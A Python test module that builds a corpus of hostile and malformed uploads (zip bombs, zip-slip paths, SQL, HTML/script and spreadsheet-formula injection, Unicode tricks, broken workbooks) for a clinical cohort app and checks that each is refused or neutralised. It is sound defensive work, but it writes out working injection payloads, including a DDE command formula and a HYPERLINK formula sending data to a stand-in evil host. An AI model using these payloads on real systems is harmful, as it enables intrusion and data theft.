"""A corpus of hostile and malformed uploads, each with the outcome it must have (issue 5, "Hostile input").

Every case is built here by code (no binary fixtures, no real patient data) and goes through the
upload's own path, `ingest.load_sources`, as `ui/session.load_upload` calls it. A case is either
- refused: the load is not ok, nothing is loaded, and an error (from the named source, when given)
  says `refused`; or
- loaded: the load is ok, and `check` holds (the value is kept as text, comes out escaped or
  neutralised, DuckDB's tables are intact, ...).
The limits come from the environment, as in the app; a case sets them low (`env`) to stay fast.
"""

from __future__ import annotations

import csv
import io
import re
import struct
import tempfile
import time
import unicodedata
from datetime import datetime
from decimal import Decimal
import zipfile
from dataclasses import dataclass, field
from typing import Callable

import openpyxl
import pandas as pd
import pytest

from icans_core import limits, report, store
from icans_core.filters import CohortFilter, InterventionFilter
from icans_core.ingest import LoadResult, load_paths, load_sources
from icans_core.options import AnalysisOptions
from icans_core.problems import format_problem
from icans_core.readers import Source
from icans_core.results import compute_results, write_results
from icans_core.spreadsheet_safe import neutralise_formulas
from tests.cohorts import VALID, copy_tables, csv_text, sources, with_cell
from ui.text import plain

CATEGORIES = {"size", "archive", "rows", "formula", "html", "sql", "unicode", "workbook", "csv shape"}
SQL_ID = "'; DROP TABLE patients; --"
SCRIPT_ID = "<script>alert(1)</script>"


# --- building uploads -----------------------------------------------------------------------------------

def upload(tables: dict | None = None, **files: bytes | None) -> list[Source]:
    """The cohort as CSV files (the valid one by default); `files` replace or add files by name."""
    found = {s.name: s.data for s in sources(tables)}
    found.update({name.replace("__", "."): data for name, data in files.items()})  # None: leave it out
    return [Source(name, data) for name, data in found.items() if data is not None]


def renamed(old: str, new: str, tables: dict | None = None, only: tuple[str, ...] | None = None) -> dict:
    """The cohort with patient `old` called `new` (in every table, or `only` these)."""
    out = copy_tables(tables)
    for name, rows in out.items():
        if only is None or name in only:
            for row in rows[1:]:
                row[0] = new if row[0] == old else row[0]
    return out


def with_group(group: str, tables: dict | None = None) -> dict:
    out = copy_tables(tables)
    out["patients"][1][2] = group
    return out


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def cohort_zip(tables: dict | None = None) -> dict[str, bytes]:
    return {s.name: s.data for s in sources(tables)}


def workbook(tables: dict | None = None, edit: Callable | None = None) -> bytes:
    """The cohort as one .xlsx (a sheet per table, every cell as text); `edit(book)` changes it first."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in (tables or VALID).items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    if edit is not None:
        edit(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, edits: dict[str, Callable[[bytes], bytes]], extra: dict[str, bytes] | None = None) -> bytes:
    """The archive with some members rewritten and others added."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            content = source.read(item)
            out.writestr(item.filename, edits.get(item.filename, lambda c: c)(content))
        for name, content in (extra or {}).items():
            out.writestr(name, content)
    return buffer.getvalue()


def set_flag_bits(data: bytes, flag: int) -> bytes:
    """The archive with a general-purpose flag set on every member (local and central headers)."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(signature), data):
            out[found.start() + offset] |= flag
    return bytes(out)


def lying_sizes(data: bytes, claimed: int) -> bytes:
    """The archive with its central directory claiming `claimed` bytes for each member's content."""
    out = bytearray(data)
    for found in re.finditer(re.escape(b"PK\x01\x02"), data):
        struct.pack_into("<I", out, found.start() + 24, claimed)
    return bytes(out)


def table_bytes(name: str, tables: dict | None = None, encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    return csv_text((tables or VALID)[name], delimiter=delimiter).encode(encoding)


def many_rows(rows: int, row: bytes = b"P1,1,1\n", header: bytes = b"patient_id,day,crs_grade\n") -> bytes:
    return header + row * rows


def repetitive_labs(rows: int) -> bytes:
    """A labs table that compresses about 8-fold, like real data (not a bomb)."""
    body = "".join(f"P1,{i % 30},IL-6,{i % 1000},pg/mL\n" for i in range(rows))
    return ("patient_id,day,analyte,value,unit\n" + body).encode()


# --- checking what was loaded ---------------------------------------------------------------------------

def connection(result: LoadResult):
    con = store.connect()
    store.load_cohort(con, result.cohort)
    return con


def exported(result: LoadResult) -> dict[str, list[dict]]:
    """The results export of a loaded cohort, read back as a spreadsheet would: raw text cells."""
    with tempfile.TemporaryDirectory() as out:
        paths = write_results(compute_results(connection(result)), out)
        return {p.stem: list(csv.DictReader(p.open(newline=""))) for p in paths}


def exported_cells(result: LoadResult, file: str, column: str) -> set[str]:
    return {row[column] for row in exported(result)[file]}


def patients(result: LoadResult) -> pd.DataFrame:
    return result.cohort.tables["patients"]


def assert_tables_intact(result: LoadResult) -> None:
    """Every table is in DuckDB with every row: no value was run as SQL."""
    con = connection(result)
    counts = store.table_counts(con).set_index("table")["rows"].to_dict()
    # every table of the schema is created; those the cohort does not have are empty
    assert counts == {name: len(result.cohort.tables.get(name, ())) for name in counts}


def check_sql_id(result: LoadResult) -> None:
    assert_tables_intact(result)
    con = connection(result)
    assert SQL_ID in set(store.read_table(con, "patients")["patient_id"])
    assert SQL_ID in set(store.toxicity_frame(con)["patient_id"])


def check_sql_group(result: LoadResult) -> None:
    assert_tables_intact(result)
    con = connection(result)
    group = patients(result)["group"].iloc[0]
    assert store.select_patients(con, CohortFilter(groups=(group,))) == 1  # a value, matched as one


def check_sql_filters(result: LoadResult) -> None:
    # SQL in filter values (as a link's ?group=... would carry them): a value that matches nothing
    con = connection(result)
    hostile = ("' OR 1=1 --", "x'); DROP TABLE patients; --", "%", "*", "\x00")
    for chosen in (CohortFilter(groups=hostile), CohortFilter(products=hostile), CohortFilter(diseases=hostile),
                   CohortFilter(sexes=hostile), CohortFilter(intervention=InterventionFilter(names=hostile))):
        assert store.select_patients(con, chosen) == 0, chosen
    assert store.select_patients(con, CohortFilter()) == 2  # and the patients table is still whole
    assert_tables_intact(result)


def check_formula(value: str) -> Callable[[LoadResult], None]:
    def check(result: LoadResult) -> None:
        cells = exported_cells(result, "episodes", "patient_id") | exported_cells(result, "episodes", "group")
        assert "'" + value in cells, cells
        assert value not in cells
    return check


def check_kept(column: str, expected: str, table: str = "patients") -> Callable[[LoadResult], None]:
    def check(result: LoadResult) -> None:
        assert expected in set(result.cohort.tables[table][column]), result.cohort.tables[table][column].tolist()
    return check


def check_markdown_safe(column: str, expected: str) -> Callable[[LoadResult], None]:
    def check(result: LoadResult) -> None:
        check_kept(column, expected)(result)
        shown = plain(expected)
        # every ASCII punctuation is escaped: no link, image, HTML or emphasis can start
        assert not re.search(r"(?<!\\)[!\[\]()<>*_`]", shown), shown
    return check


def check_report_escapes(result: LoadResult) -> None:
    html = report.build_report(connection(result), AnalysisOptions(), [f"group: {SCRIPT_ID}"], "test")
    assert not re.search(r"<(script|img|iframe)", html, re.IGNORECASE)  # every one arrived as text
    for shown in ("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;"):
        assert shown in html


def check_bom_header(result: LoadResult) -> None:
    assert list(patients(result)["patient_id"]) == ["P1", "P2"]


def check_no_warnings(result: LoadResult) -> None:
    assert result.problems == [], result.report.to_string()


def check_nfc(result: LoadResult) -> None:
    ids = set(patients(result)["patient_id"]) | set(result.cohort.tables["toxicity"]["patient_id"])
    assert ids == {"Zo\u00e9", "P2"}


def check_vocabulary_lookalikes(result: LoadResult) -> None:
    assert patients(result)["product"].iloc[0] == "axi-cel"
    assert patients(result)["product_as_given"].iloc[0] == "\uff41\uff58\uff49\u2010\uff43\uff45\uff4c"
    assert result.cohort.tables["labs"]["analyte"].iloc[0] == "IL-6"


def check_warned(words: str, value: str | None = None) -> Callable[[LoadResult], None]:
    def check(result: LoadResult) -> None:
        found = [p for p in result.problems if p.severity == "warning" and words in p.problem]
        assert found, result.report.to_string()
        if value is not None:
            assert value in {p.value for p in found}
    return check


def check_invisible_shown(result: LoadResult) -> None:
    found = [p for p in result.errors if "Unknown patient" in p.problem]
    assert [(p.row, p.value) for p in found] == [(2, "P\\u200d1"), (3, "P\\u200d1"), (4, "P\\u200d1")]


def check_escaped_in_terminal(result: LoadResult) -> None:
    [problem] = [p for p in result.problems if "Unknown product" in p.problem]
    assert "\x1b" not in format_problem(problem) and "\\x1b" in format_problem(problem)


def check_formula_cached(result: LoadResult) -> None:
    assert patients(result)["last_followup_day"].iloc[0] == 100


def check_value_length(column: str, length: int) -> Callable[[LoadResult], None]:
    def check(result: LoadResult) -> None:
        assert len(patients(result)[column].iloc[0]) == length
    return check


def check_multiline_cell(result: LoadResult) -> None:
    assert patients(result)["death_cause"].iloc[0] == "line one\nline two"


def check_decimal_comma(result: LoadResult) -> None:
    assert patients(result)["age_years"].tolist() == [61.5, 70.0]


def check_report_value_neutralised(result: LoadResult) -> None:
    written = neutralise_formulas(result.report).to_csv(index=False)
    assert "'=1+1" in written and ",=1+1" not in written


def check_ignored_column(result: LoadResult) -> None:
    assert_tables_intact(result)
    check_warned("Column ignored")(result)


# --- the corpus -------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    id: str
    category: str
    build: Callable[[], list[Source]]
    refused: str | None = None  # words an error must say; None: the cohort must load
    source: str | None = None  # where that error must point
    check: Callable[[LoadResult], None] | None = None
    env: dict[str, str] = field(default_factory=dict)
    max_seconds: float = 10.0


def long_patients(cell: str, column: int = 2) -> dict:
    out = copy_tables()
    out["patients"][1][column] = cell
    return out


def multiline_patients(rows: int) -> bytes:
    # every record holds a line break inside quotes: more line breaks than rows
    header = "patient_id,product,last_followup_day,death_cause\n"
    body = "".join(f'P{i},axi-cel,100,"line one\nline two"\n' for i in range(1, rows + 1))
    return (header + body).encode()


def merged_ids(book) -> None:
    book["patients"].merge_cells("A2:A3")


def cached_formula(data: bytes, recompute: bool = False) -> bytes:
    # a formula with the result a spreadsheet program saved beside it (openpyxl cannot write one); Excel and
    # LibreOffice do not ask for a recomputation on opening (fullCalcOnLoad), as openpyxl and XlsxWriter do
    return rezip(data, {"xl/worksheets/sheet1.xml": lambda xml: re.sub(
        rb'<c r="H2"[^>]*>.*?</c>', b'<c r="H2"><f>50+50</f><v>100</v></c>', xml),
        "xl/workbook.xml": lambda xml: xml if recompute else xml.replace(b' fullCalcOnLoad="1"', b"")})


def uncached_formula(book) -> None:
    book["patients"]["H2"] = "=50+50"  # no saved result: reads as an empty cell


def far_cell(book) -> None:
    # the sheet's dimension becomes A1:XFD1048576
    book["patients"]["XFD1048576"] = "x"


def script_sheet(book) -> None:
    book.create_sheet("<img src=x onerror=alert(1)>")["A1"] = "x"  # a sheet name cannot hold "/"


def wide_header(columns: int) -> bytes:
    names = ["patient_id", "product", "last_followup_day"] + [f"extra_{i}" for i in range(columns - 3)]
    return (",".join(names) + "\nP1,axi-cel,100\n").encode()


def hostile_ids_everywhere(tables: dict | None = None) -> dict:
    out = renamed("P1", SCRIPT_ID, tables)
    out["patients"][2][2] = "<img src=x onerror=alert(1)>"
    out["patients"][1][9] = "<iframe src=//evil.example>"  # death_cause
    return out


SEVERE_P2 = copy_tables()
SEVERE_P2["toxicity"] += [["P2", "3", "", "3", "3"], ["P2", "6", "", "1", "9"]]  # both patients in episodes.csv


def formula_case(id_: str, value: str, *, group: bool = False) -> Case:
    tables = with_group(value, SEVERE_P2) if group else renamed("P2", value, SEVERE_P2)
    shown = value.strip()  # cells are trimmed on reading: a leading tab goes, the formula stays
    return Case(id_, "formula", lambda: upload(tables), check=check_formula(shown))


CASES: list[Case] = [
    # --- size -----------------------------------------------------------------------------------------
    Case("upload over the size limit", "size",
         lambda: upload(labs__csv=repetitive_labs(60_000)),
         refused="more than the limit of 1.0 MB", env={limits.UPLOAD_ENV: "1"}),
    Case("upload over the size limit only in total", "size",
         lambda: upload(labs__csv=repetitive_labs(30_000), interventions__csv=b" " * 700_000),
         refused=limits.UPLOAD_ENV, env={limits.UPLOAD_ENV: "1"}),
    Case("zip over the expansion limit at an ordinary ratio", "size",
         lambda: upload(**{"more__zip": zip_of({"labs.csv": repetitive_labs(300_000)})}),
         refused="possible zip bomb", source="more.zip", env={limits.UPLOAD_ENV: "1"}),
    # --- rows -----------------------------------------------------------------------------------------
    Case("three million rows refused by the default row limit", "rows",
         lambda: upload(toxicity__csv=many_rows(3_000_000)),
         refused="more than 2,500,000 rows", source="toxicity.csv", max_seconds=5.0),
    Case("rows over a lowered limit, counted through quoted line breaks", "rows",
         lambda: upload(patients__csv=multiline_patients(1_500)),
         refused=limits.ROWS_ENV, source="patients.csv", env={limits.ROWS_ENV: "1000"}),
    Case("quoted line breaks are not rows", "rows",
         lambda: upload(patients__csv=multiline_patients(800)),
         check=check_multiline_cell, env={limits.ROWS_ENV: "1000"}),
    Case("parquet over the row limit, refused from its footer", "rows",
         lambda: upload(patients__parquet=_parquet(pd.DataFrame({"patient_id": [f"P{i}" for i in range(200)]})),
                        patients__csv=None),
         refused="more than 100 rows", source="patients.parquet", env={limits.ROWS_ENV: "100"}),
    Case("workbook sheet over the row limit", "rows",
         lambda: [Source("c.xlsx", workbook(_tall_labs(150)))],
         refused="more than 100 rows", source="c.xlsx › labs", env={limits.ROWS_ENV: "100"}),
    # --- archives -------------------------------------------------------------------------------------
    Case("zip bomb", "archive",
         lambda: [Source("cohort.zip", zip_of({**cohort_zip(), "labs.csv": b"0" * 20_000_000}))],
         refused="possible zip bomb", source="cohort.zip"),
    Case("zip inside a zip", "archive",
         lambda: [Source("cohort.zip", zip_of({"inner.zip": zip_of(cohort_zip())}))],
         refused="inside archives", source="cohort.zip › inner.zip"),
    Case("workbook inside a zip", "archive",
         lambda: [Source("cohort.zip", zip_of({"cohort.xlsx": workbook()}))],
         refused="inside archives", source="cohort.zip › cohort.xlsx"),
    Case("zip renamed as a csv inside a zip", "archive",
         lambda: [Source("cohort.zip", zip_of({**cohort_zip(), "labs.csv": zip_of(cohort_zip())}))],
         refused="not CSV text", source="cohort.zip › labs.csv"),
    Case("zip of ten thousand files", "archive",
         lambda: [Source("cohort.zip", zip_of({f"f{i}.txt": b"" for i in range(10_000)}))],
         refused="holds 10,000 files", source="cohort.zip"),
    Case("zip member compressed with bzip2", "archive",
         lambda: [Source("cohort.zip", zip_of(cohort_zip(), zipfile.ZIP_BZIP2))],
         refused="other than deflate", source="cohort.zip › patients.csv"),
    Case("password-protected zip", "archive",
         lambda: [Source("cohort.zip", set_flag_bits(zip_of(cohort_zip()), 0x1))],
         refused="password-protected", source="cohort.zip › patients.csv"),
    Case("zip member that lies about its size", "archive",
         lambda: [Source("cohort.zip", lying_sizes(zip_of(cohort_zip()), 10))],
         refused="could not be read", source="cohort.zip › patients.csv"),
    Case("zip-slip member names", "archive",
         lambda: [Source("cohort.zip", zip_of({"../../../etc/patients.csv": table_bytes("patients"),
                                               "toxicity.csv": table_bytes("toxicity")}))],
         refused="unsafe path (../../../etc/patients.csv)", source="cohort.zip"),
    # --- formula injection (loaded; neutralised in the export) ----------------------------------------
    formula_case("formula '=' in a patient id", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"),
    formula_case("formula '+' in a group label", "+IVIG", group=True),
    formula_case("formula '-' in a patient id", "-2+3+cmd|' /C calc'!A0"),
    formula_case("formula '@' in a group label", "@SUM(1+1)", group=True),
    formula_case("formula after a tab in a patient id", "\t=1+1"),
    Case("formula in a number column, and the report download", "formula",
         lambda: upload(long_patients("=1+1", column=7)),
         refused="Not a number", source="patients.csv", check=check_report_value_neutralised),
    # --- HTML and script ------------------------------------------------------------------------------
    Case("script in a patient id, image in a group, iframe in a cause of death", "html",
         lambda: upload(hostile_ids_everywhere()), check=check_report_escapes),
    Case("image markdown in a group label", "html",
         lambda: upload(with_group("![x](http://evil.example/p.png)")),
         check=check_markdown_safe("group", "![x](http://evil.example/p.png)")),
    Case("html in a group label", "html",
         lambda: upload(with_group("<img src=x onerror=alert(1)>")),
         check=check_markdown_safe("group", "<img src=x onerror=alert(1)>")),
    Case("HTML in a sheet name", "html",
         lambda: [Source("c.xlsx", workbook(edit=script_sheet))],
         check=check_warned("Sheet ignored")),
    Case("html in a file name", "html",
         lambda: upload(**{"<img src=x onerror=alert(1)>__csv": b"a\n1\n"}),
         refused="Not a table of the data format", source="<img src=x onerror=alert(1)>.csv"),
    # --- SQL-like strings -----------------------------------------------------------------------------
    Case("SQL in a patient id", "sql", lambda: upload(renamed("P1", SQL_ID)), check=check_sql_id),
    Case("SQL in a group label", "sql",
         lambda: upload(with_group("Robert'); DROP TABLE labs;--")), check=check_sql_group),
    Case("SQL in an analyte name", "sql",
         lambda: upload(_set_cell("labs", 2, 2, "IL-6\" OR 1=1 --")), check=lambda r: assert_tables_intact(r)),
    Case("SQL as a column name", "sql",
         lambda: upload(_add_column("patients", "\"; DROP TABLE patients; --")), check=check_ignored_column),
    Case("SQL in filter values", "sql", lambda: upload(), check=check_sql_filters),
    # --- Unicode oddities -----------------------------------------------------------------------------
    Case("UTF-8 BOM", "unicode",
         lambda: upload(patients__csv=b"\xef\xbb\xbf" + table_bytes("patients")), check=check_bom_header),
    Case("BOM with semicolons and decimal commas", "unicode",
         lambda: upload(patients__csv=b"\xef\xbb\xbf" + table_bytes(
             "patients", _set_cell("patients", 2, 4, "61,5"), delimiter=";")), check=check_decimal_comma),
    Case("UTF-16 with a BOM", "unicode",
         lambda: upload(patients__csv=table_bytes("patients", encoding="utf-16")),
         refused="UTF-16", source="patients.csv"),
    Case("UTF-16 without a BOM", "unicode",
         lambda: upload(patients__csv=table_bytes("patients", encoding="utf-16-le")),
         refused="NUL bytes", source="patients.csv"),
    Case("NUL byte in a cell", "unicode",
         lambda: upload(patients__csv=table_bytes("patients").replace(b"DLBCL", b"DL\x00BCL")),
         refused="NUL bytes", source="patients.csv"),
    Case("invalid UTF-8", "unicode",
         lambda: upload(patients__csv=table_bytes("patients").replace(b"DLBCL", b"DL\xffBCL")),
         refused="Not UTF-8", source="patients.csv"),
    Case("UTF-8-encoded surrogate", "unicode",
         lambda: upload(patients__csv=table_bytes("patients").replace(b"DLBCL", b"DL\xed\xa0\x80BCL")),
         refused="Not UTF-8", source="patients.csv"),
    Case("right-to-left override in a group label", "unicode",
         lambda: upload(with_group("arm \u202eB-tnemtaert")), check=check_kept("group", "arm \u202eB-tnemtaert")),
    Case("right-to-left mark in a patient id, everywhere", "unicode",
         lambda: upload(renamed("P1", "P\u200f1")), check=check_kept("patient_id", "P\u200f1")),
    Case("zero-width joiner in one table only", "unicode",
         lambda: upload(renamed("P1", "P\u200d1", only=("toxicity",))),
         refused="Unknown patient", source="toxicity.csv", check=check_invisible_shown),
    Case("zero-width space and BOM inside header names", "unicode",
         lambda: upload(patients__csv=table_bytes("patients").replace(
             b"patient_id", "patient\u200b_id\ufeff".encode())),
         check=check_no_warnings),
    Case("NFD and NFC spellings of one patient id", "unicode",
         lambda: upload(renamed("Zo\u00e9", unicodedata.normalize("NFD", "Zo\u00e9"),
                                renamed("P1", "Zo\u00e9"), only=("toxicity",))), check=check_nfc),
    Case("full-width and Unicode-hyphen vocabulary", "unicode",
         lambda: upload(_set_cell("labs", 2, 2, "IL\u20106", _set_cell(
             "patients", 2, 1, "\uff41\uff58\uff49\u2010\uff43\uff45\uff4c"))), check=check_vocabulary_lookalikes),
    Case("Cyrillic lookalike product", "unicode",
         lambda: upload(_set_cell("patients", 2, 1, "\u0430xi-cel")),
         check=check_warned("looks like the product 'axi-cel'", "\\u0430xi-cel")),  # the look-alike shown escaped
    Case("terminal escape in a product", "unicode",
         lambda: upload(_set_cell("patients", 2, 1, "\x1b[31maxi-cel\x1b[0m")), check=check_escaped_in_terminal),
    Case("emoji in a group label", "unicode",
         lambda: upload(with_group("\U0001f9ea arm \U0001f468\u200d\U0001f52c")),
         check=check_kept("group", "\U0001f9ea arm \U0001f468\u200d\U0001f52c")),
    # --- malformed workbooks --------------------------------------------------------------------------
    Case("random bytes named .xlsx", "workbook",
         lambda: [Source("c.xlsx", bytes(range(256)) * 8)], refused="Not an .xlsx", source="c.xlsx"),
    Case("truncated workbook", "workbook",
         lambda: [Source("c.xlsx", workbook()[:3000])], refused="damaged", source="c.xlsx"),
    Case("workbook with no sheets", "workbook",
         lambda: [Source("c.xlsx", rezip(workbook(), {"xl/workbook.xml": lambda xml: re.sub(
             rb"<sheets>.*</sheets>", b"<sheets/>", xml)}))],
         refused="required table 'patients' is missing"),
    Case("workbook with wrong sheet names", "workbook",
         lambda: [Source("c.xlsx", workbook({"Sheet1": VALID["patients"], "Sheet2": VALID["toxicity"]}))],
         refused="required table 'toxicity' is missing"),
    Case("zip of CSV files named .xlsx", "workbook",
         lambda: [Source("c.xlsx", zip_of(cohort_zip()))], refused="could not be read", source="c.xlsx"),
    Case("password-protected workbook (encrypted container)", "workbook",
         lambda: [Source("c.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
                         + "EncryptionInfo".encode("utf-16-le"))],
         refused="password-protected", source="c.xlsx"),
    Case("old BIFF .xls renamed .xlsx", "workbook",
         lambda: [Source("c.xlsx", b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\x00" * 500)],
         refused="Not an .xlsx", source="c.xlsx"),
    Case("sheet dimensions claiming 16,384 columns and a million rows", "workbook",
         lambda: [Source("c.xlsx", workbook(edit=far_cell))], check=check_no_warnings, max_seconds=8.0),
    Case("header cell in column XFD", "workbook",
         lambda: [Source("c.xlsx", workbook(edit=lambda book: book["patients"].__setitem__("XFD1", "x")))],
         refused="16,384 columns", source="c.xlsx › patients"),
    Case("shared-strings bomb in a workbook", "workbook",
         lambda: [Source("c.xlsx", rezip(workbook(), {}, {"xl/sharedStrings.xml": b"<si><t>x</t></si>" * 2_000_000}))],
         refused="possible zip bomb", source="c.xlsx"),
    Case("macro project inside a workbook", "workbook",
         lambda: [Source("c.xlsx", rezip(workbook(), {}, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 1000}))],
         check=check_no_warnings),
    Case("merged patient_id cells", "workbook",
         lambda: [Source("c.xlsx", workbook(edit=merged_ids))],
         refused="Required: this cell is empty", source="c.xlsx › patients"),
    Case("formula cell with its saved result", "workbook",
         lambda: [Source("c.xlsx", cached_formula(workbook()))],
         check=lambda r: (check_formula_cached(r), check_warned("This cell is a formula (=50+50)", "100")(r))),
    Case("formula cell without a saved result", "workbook",
         lambda: [Source("c.xlsx", workbook(edit=uncached_formula))],
         refused="Formula with no saved value (=50+50)", source="c.xlsx › patients"),
    # --- CSV shape ------------------------------------------------------------------------------------
    Case("empty file", "csv shape", lambda: upload(patients__csv=b""), refused="empty", source="patients.csv"),
    Case("header-only cohort", "csv shape",
         lambda: upload({"patients": VALID["patients"][:1], "toxicity": VALID["toxicity"][:1]}),
         refused="no rows", source="patients.csv"),
    Case("first row blank", "csv shape",
         lambda: upload(patients__csv=b",,\n" + table_bytes("patients")), refused="must be the header",
         source="patients.csv"),
    Case("duplicate header, differing only in case and spaces", "csv shape",
         lambda: upload(_add_column("patients", " Patient_ID ")), refused="appears more than once",
         source="patients.csv"),
    Case("ragged row with extra values", "csv shape",
         lambda: upload(patients__csv=table_bytes("patients") + b"P3,axi-cel,,,,,,100,,,surplus\n"),
         refused="fields but the header has", source="patients.csv"),
    Case("ragged short row", "csv shape",
         lambda: upload(patients__csv=table_bytes("patients") + b"P3,axi-cel\n"),
         refused="Required: this cell is empty", source="patients.csv"),
    Case("cell of 200,000 characters", "csv shape",
         lambda: upload(long_patients("x" * 200_000)), refused="longer than 131,072 characters",
         source="patients.csv"),
    Case("group label of 100,000 characters", "csv shape",
         lambda: upload(long_patients("x" * 100_000)), check=check_value_length("group", 100_000)),
    Case("deeply nested quoting", "csv shape",
         lambda: upload(long_patients('"' * 5_000)), check=check_value_length("group", 5_000)),
    Case("quote never closed", "csv shape",
         lambda: upload(patients__csv=table_bytes("patients").replace(b"axi-cel", b'"axi-cel')),
         refused="Required: this cell is empty", source="patients.csv"),
    Case("old Mac line endings (CR only)", "csv shape",
         lambda: upload(patients__csv=table_bytes("patients").replace(b"\n", b"\r")), check=check_no_warnings),
    Case("1,500 columns", "csv shape",
         lambda: upload(patients__csv=wide_header(1_500)), refused="1,500 columns", source="patients.csv"),
    Case("infinite and huge numbers", "csv shape",
         lambda: upload(_set_cell("patients", 2, 7, "1e999", _set_cell("patients", 3, 7, "-inf"))),
         refused="Not a number", source="patients.csv"),
]


def _parquet(frame: pd.DataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.to_parquet(buffer)
    return buffer.getvalue()


def _tall_labs(rows: int) -> dict:
    out = copy_tables()
    out["labs"] += [["P1", str(day), "IL-6", "1", "pg/mL", ""] for day in range(rows)]
    return out


def _set_cell(table: str, row: int, column: int, value: str, tables: dict | None = None) -> dict:
    out = copy_tables(tables)
    out[table][row - 1][column] = value
    return out


def _add_column(table: str, name: str) -> dict:
    out = copy_tables()
    out[table][0].append(name)
    for row in out[table][1:]:
        row.append("x")
    return out


# --- silent data changes (issue 10): every case through the command line, `validate` then `export` ----------
# Each case has one outcome: refused (validate exits 2 and names the file, row, column and value; export writes
# nothing), warned (both exit 0, both print the named warning, and the export holds the values as given), or
# loaded exactly (no problem at all, and the export's text cells are the numbers as given).

@dataclass(frozen=True)
class Silent:
    id: str
    build: Callable[[], list[Source]]
    outcome: str  # "refused", "warned" or "exact"
    words: str | None = None  # what the error or warning must say
    where: tuple | None = None  # (source, row, column, value) of that problem
    export: Callable[[dict[str, list[dict]]], None] | None = None  # checks on the export's raw text cells


def cells(table: str, *changes: tuple[int, str, str], tables: dict | None = None) -> dict:
    """The cohort with cells changed: (spreadsheet row, column name, value)."""
    out = copy_tables(tables)
    for row, column, value in changes:
        out = with_cell(table, row, column, value, out)
    return out


def appended(table: str, *rows: list[str], tables: dict | None = None) -> dict:
    out = copy_tables(tables)
    out[table] += [list(r) for r in rows]
    return out


def semicolon_cell(table: str, row: int, column: str, value: str) -> list[Source]:
    """The cohort with one cell changed (spreadsheet row, column, value) and that table saved with semicolons."""
    tables = cells(table, (row, column, value))
    return upload(tables, **{f"{table}__csv": table_bytes(table, tables, delimiter=";")})


def day_2_median(median: str) -> Callable[[dict], None]:
    """The export's day-2 cytokine median of the group whose lab value (labs row 5) a case changes."""
    return expect("cytokine_medians", "median", median, group="Steroids alone", day="2")


def numeric_workbook(edit: Callable | None = None, tables: dict | None = None) -> bytes:
    """The cohort as one .xlsx whose number cells are numbers (General format), as a spreadsheet saves them."""
    def as_numbers(book) -> None:
        for sheet in book.worksheets:
            for row in sheet.iter_rows(min_row=2):
                for cell in row:
                    if isinstance(cell.value, str) and re.fullmatch(r"-?\d+(\.\d+)?", cell.value):
                        cell.value = float(cell.value) if "." in cell.value else int(cell.value)
        if edit is not None:
            edit(book)
    return workbook(tables, edit=as_numbers)


def padded_ids(book) -> None:
    # patient P1 typed as the number 7 and shown as 007 (number format 000), in every sheet
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2, max_col=1):
            if row[0].value == "P1":
                row[0].value, row[0].number_format = 7, "000"


def hide(name: str, state: str) -> Callable:
    def edit(book) -> None:
        book[name].sheet_state = state
    return edit


def hide_rows(name: str, *rows: int) -> Callable:
    def edit(book) -> None:
        for row in rows:
            book[name].row_dimensions[row].hidden = True
    return edit


def hide_column(name: str, letter: str) -> Callable:
    def edit(book) -> None:
        book[name].column_dimensions[letter].hidden = True
    return edit


def cell_of(file: str, column: str, **match: str) -> Callable[[dict], str]:
    """The raw text of one export cell: the row of `file` whose columns equal `match`."""
    def find(files: dict) -> str:
        [row] = [r for r in files[file] if all(r[k] == v for k, v in match.items())]
        return row[column]
    return find


def expect(file: str, column: str, expected: str, **match: str) -> Callable[[dict], None]:
    def check(files: dict) -> None:
        assert cell_of(file, column, **match)(files) == expected, files[file]
    return check


def expect_all(*checks: Callable[[dict], None]) -> Callable[[dict], None]:
    def check(files: dict) -> None:
        for one in checks:
            one(files)
    return check


def no_text_anywhere(*bad: str) -> Callable[[dict], None]:
    def check(files: dict) -> None:
        for name, rows in files.items():
            for row in rows:
                assert not set(row.values()) & set(bad), (name, row)
    return check


CAR_T = ["P1", "7", "CAR-T cells", "", "cells/uL", ""]


def car_t(value: str) -> dict:
    row = list(CAR_T)
    row[3] = value
    return appended("labs", row)


SEVERE_DEATH = cells("patients", (2, "death_day", "12"), (2, "last_followup_day", "12"))


def header(table: str, old: str, new: str, tables: dict | None = None) -> dict:
    """The cohort with one column's header written `new`."""
    out = copy_tables(tables)
    out[table][0] = [new if c == old else c for c in out[table][0]]
    return out

SILENT: list[Silent] = [
    # --- dates disguised as numbers, and days without an upper bound ------------------------------------
    Silent("Excel date serial in a CSV day column", lambda: upload(cells("toxicity", (3, "day", "45353"))),
           "refused", "Excel date serial number (45353 = 2024-03-02", ("toxicity.csv", 3, "day", "45353")),
    Silent("Excel date serial in a General-format workbook cell",
           lambda: [Source("c.xlsx", numeric_workbook(lambda b: b["toxicity"].__setitem__("B3", 45353)))],
           "refused", "Excel date serial number (45353 = 2024-03-02", ("c.xlsx › toxicity", 3, "day", "45353")),
    Silent("Excel date serial with a time, as last follow-up",
           lambda: upload(cells("patients", (3, "last_followup_day", "45353.75"))),
           "refused", "Excel date serial number", ("patients.csv", 3, "last_followup_day", "45353.75")),
    Silent("yyyymmdd number as a start day", lambda: upload(cells("interventions", (2, "start_day", "20240305"))),
